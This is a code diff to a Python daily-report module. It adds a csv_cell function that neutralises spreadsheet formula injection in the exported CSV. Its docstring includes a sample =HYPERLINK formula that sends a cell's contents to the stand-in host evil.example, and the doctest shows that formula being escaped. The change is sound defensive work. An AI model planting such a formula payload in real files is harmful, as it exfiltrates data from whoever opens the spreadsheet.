@@ -19,7 +19,7 @@ from dataclasses import dataclass, field
 from datetime import date
 from typing import Any, Iterable, Mapping
 
-__all__ = ["DailyReport", "VenueDay", "build", "to_csv", "to_html"]
+__all__ = ["DailyReport", "VenueDay", "build", "to_csv", "to_html", "csv_cell"]
 
 HOURS = 24
 #: Chart geometry (pixels): wide enough for 24 labelled bars on a laptop screen.
@@ -68,16 +68,36 @@ def build(day: date, rows: Iterable[Mapping[str, Any]]) -> DailyReport:
     return DailyReport(day, [venues[k] for k in sorted(venues)])
 
 
+#: A spreadsheet reads a cell starting with one of these as a formula (or, for a control
+#: character, may): such cells get a leading apostrophe (OWASP "CSV injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_cell(value: Any) -> Any:
+    """A value safe to open in a spreadsheet; numbers pass as they are.
+
+    >>> csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")')[:4]
+    "'=HY"
+    >>> csv_cell("V1"), csv_cell(-3)
+    ('V1', -3)
+    """
+    if isinstance(value, str) and value and (value.startswith(FORMULA_START) or ord(value[0]) < 0x20
+                                             or value[0] == "\x7f"):
+        return "'" + value
+    return value
+
+
 def to_csv(report: DailyReport) -> str:
-    """One row per venue; one `fail_<reason>` column per fail reason seen that day."""
+    """One row per venue; one `fail_<reason>` column per fail reason seen that day. Text
+    cells that a spreadsheet would run as a formula are neutralised (csv_cell)."""
     reasons = report.fail_reasons()
     out = io.StringIO()
     w = csv.writer(out, lineterminator="\r\n")
-    w.writerow(["date", "venue_code", "entries", "passes", "fails", "reviews", "overrides",
-                *[f"fail_{r}" for r in reasons]])
+    w.writerow(map(csv_cell, ["date", "venue_code", "entries", "passes", "fails", "reviews", "overrides",
+                              *[f"fail_{r}" for r in reasons]]))
     for v in report.venues:
-        w.writerow([report.day.isoformat(), v.venue_code, v.entries, v.passes, v.fails, v.reviews,
-                    v.overrides, *[v.fails_by_reason.get(r, 0) for r in reasons]])
+        w.writerow(map(csv_cell, [report.day.isoformat(), v.venue_code, v.entries, v.passes, v.fails,
+                                  v.reviews, v.overrides, *[v.fails_by_reason.get(r, 0) for r in reasons]]))
     return out.getvalue()
 
 
